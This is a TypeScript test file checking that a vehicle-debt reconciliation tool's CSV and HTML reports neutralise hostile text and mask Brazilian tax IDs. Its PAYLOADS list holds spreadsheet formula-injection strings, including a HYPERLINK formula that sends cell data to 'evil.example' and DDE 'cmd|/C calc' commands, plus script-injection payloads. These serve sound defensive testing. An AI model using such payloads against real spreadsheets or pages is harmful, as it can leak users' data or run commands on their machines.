import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { readRecords } from '../../../src/sheets/csv/read-records.ts'
import type { ExceptionCode } from '../../../src/ledger/reports/report-exception-sources.ts'
import type { ReportException } from '../../../src/ledger/reports/report-rows.ts'
import { veilDocuments } from '../../../src/fleet/veil-documents.ts'
import { LEDGER_CODES } from '../../../src/reconciliation/reports/exception-kinds.ts'
import { writeReports } from '../../../src/reconciliation/reports/write-reports.ts'
import { memoryDebt, memoryOrder, memoryRun, memorySource, memoryVehicle } from './memory-source.ts'
import { STARTED, type MemoryLedger } from './memory-source.ts'
import { filesOf } from './reports-setup.ts'
import { folderForFile } from '../../support/for-file.ts'

const reportsDir = await folderForFile('hostile')

const CANARY = '529.982.247-25'
const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1;"click")',
  "=cmd|'/C calc'!A0",
  '+SUM(1;2)',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  ';=1+1',
  '";=1+1;"',
  '"\r\n=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')//</style></svg><script>",
  '`${alert(1)}`',
  `CPF ${CANARY} e 52998224725, CNPJ 11.222.333/0001-81`,
]

/** Every free text of a vehicle, its order and its exceptions is one payload. */
function rowsOf(text: string, codes: readonly ExceptionCode[] = LEDGER_CODES) {
  const debt = memoryDebt({
    kind: text,
    group: text,
    description: text,
    dependsOnDescription: text,
  })
  const words = { nickname: text, costCentre: text }
  const vehicle = memoryVehicle({ ...words, refusal: text, debts: [debt] })
  const order = memoryOrder({
    ...words,
    method: text,
    status: text,
    attemptStatus: text,
    gateReason: text,
    pixCode: text.includes('CPF') ? '' : text,
  })
  const exceptions = codes.map((code): ReportException => ({
    ...words,
    code,
    plate: text,
    renavam: text,
    uf: text,
    since: STARTED.toISOString(),
    amountCents: 1n,
    foundCents: 2n,
    effect: 'order',
    detail: text,
    error: { code: text, title: text, message: text, action: text },
    line: 3,
    issues: [{ code: 'R-PLATE', column: text, value: text }],
    reference: 'reference',
  }))
  return { vehicles: [vehicle], orders: [order], exceptions }
}

function ledgerOf(texts: readonly string[], codes?: readonly ExceptionCode[]) {
  const rows = texts.map((text) => rowsOf(text, codes))
  return {
    vehicles: rows.flatMap(({ vehicles }) => vehicles),
    orders: rows.flatMap(({ orders }) => orders),
    exceptions: rows.flatMap(({ exceptions }) => exceptions),
  }
}

const LONG = { recordCharactersMax: 1024 * 1024 }

async function cellsOf(path: string, flavour: 'excel' | 'machine'): Promise<string[][]> {
  const dialect = { delimiter: flavour === 'excel' ? ';' : ',', quote: '"' }
  const cells: string[][] = []
  const text = (await readFile(path, 'utf8')).replace(/^\uFEFF/, '')
  for await (const batch of readRecords([text], dialect, LONG)) {
    for (const record of batch) cells.push(record.cells)
  }
  return cells
}

/** What a spreadsheet would run; a number may begin with a minus, and `="digits"` is a text. */
function runsInASpreadsheet(cell: string): boolean {
  if (/^-?\d+[.,]\d\d$/.test(cell) || /^="[0-9A-Za-z]+"$/.test(cell)) return false
  return /^[=+\-@\t\r\n\0＝＋－＠]/.test(cell)
}

async function report(ledger: MemoryLedger, flavour: 'excel' | 'machine', number: number) {
  const run = memoryRun({ number })
  const tools = { source: memorySource(ledger), openRow: () => [] }
  const settings = { ...run.settings, flavour }
  return writeReports(tools, { run: { ...run, settings }, reportsDir })
}

const reports = {
  excel: await report(ledgerOf(PAYLOADS), 'excel', 1),
  machine: await report(ledgerOf(PAYLOADS), 'machine', 2),
}
const TABLES = ['debts', 'vehicles', 'orders', 'exceptions']

test.each(['excel', 'machine'] as const)(
  'no cell of the %s flavour runs in a spreadsheet, and no file tears',
  async (flavour) => {
    const { directory, manifest } = reports[flavour]
    for (const name of TABLES) {
      const records = await cellsOf(join(directory, `${name}.csv`), flavour)
      const width = records[0]?.length
      expect(records.filter((cells) => cells.length !== width)).toEqual([])
      expect(records.flat().filter(runsInASpreadsheet)).toEqual([])
      expect(records).toHaveLength((manifest.files[`${name}.csv`]?.rows ?? 0) + 1)
      expect(records.length).toBeGreaterThan(PAYLOADS.length)
    }
  },
)

test('the page shows payloads as text and nothing else', async () => {
  const page = await readFile(join(reports.machine.directory, 'summary.html'), 'utf8')
  expect(page).not.toMatch(/<script|<img src=x|javascript:alert\('/i)
  const tags = [...page.matchAll(/<([a-z0-9]+)/g)].map(([, tag]) => tag ?? '')
  const known =
    'html head meta title style body aside div strong header p h1 main b span section h2 h3 ul li ' +
    'table thead tbody tfoot tr th td img figure figcaption code a ' +
    'dl dt dd details summary svg rect br'
  expect(tags.filter((tag) => !known.split(' ').includes(tag))).toEqual([])
})

test('a document in a text is masked in every file', async () => {
  for (const [name, bytes] of Object.entries(await filesOf(reports.excel.directory))) {
    const text = bytes.toString()
    const found = [CANARY, '52998224725', '11.222.333/0001-81'].filter((one) => text.includes(one))
    expect({ [name]: found }).toEqual({ [name]: [] })
  }
})

test('a text without end is cut, not fatal', async () => {
  const endless = ['x', '"', '=', '\n', ';'].map((letter) => letter.repeat(4_000))
  const ledger = ledgerOf(endless, ['consultation-failed', 'order-quarantined', 'row-rejected'])
  const { directory, closes } = await report(ledger, 'excel', 3)
  expect(closes).toBe(true)
  const cells = await cellsOf(join(directory, 'exceptions.csv'), 'excel')
  expect(cells.flat().filter((cell) => cell.length > 3_010)).toEqual([])
})

test('only numbers with valid check digits are masked', () => {
  expect(veilDocuments(`de ${CANARY}.`)).toBe('de ***.982.247-**.')
  expect(veilDocuments('RENAVAM 26827649960, pedido 12345678900')).toBe(
    'RENAVAM 26827649960, pedido 12345678900',
  )
  expect(veilDocuments('CNPJ 12.ABC.345/01DE-35')).toBe('CNPJ 12.***.***/****-35')
})

test('a simulated answer is marked on every row and in every document', async () => {
  const { directory } = reports.excel
  for (const name of TABLES) {
    const [, ...rows] = await cellsOf(join(directory, `${name}.csv`), 'excel')
    expect(rows.filter((cells) => cells.at(-1) !== 'SIMULADO')).toEqual([])
  }
  for (const name of ['summary.html', 'manifest.json', 'columns.md']) {
    expect(await readFile(join(directory, name), 'utf8')).toContain('SIMULADO')
  }
})
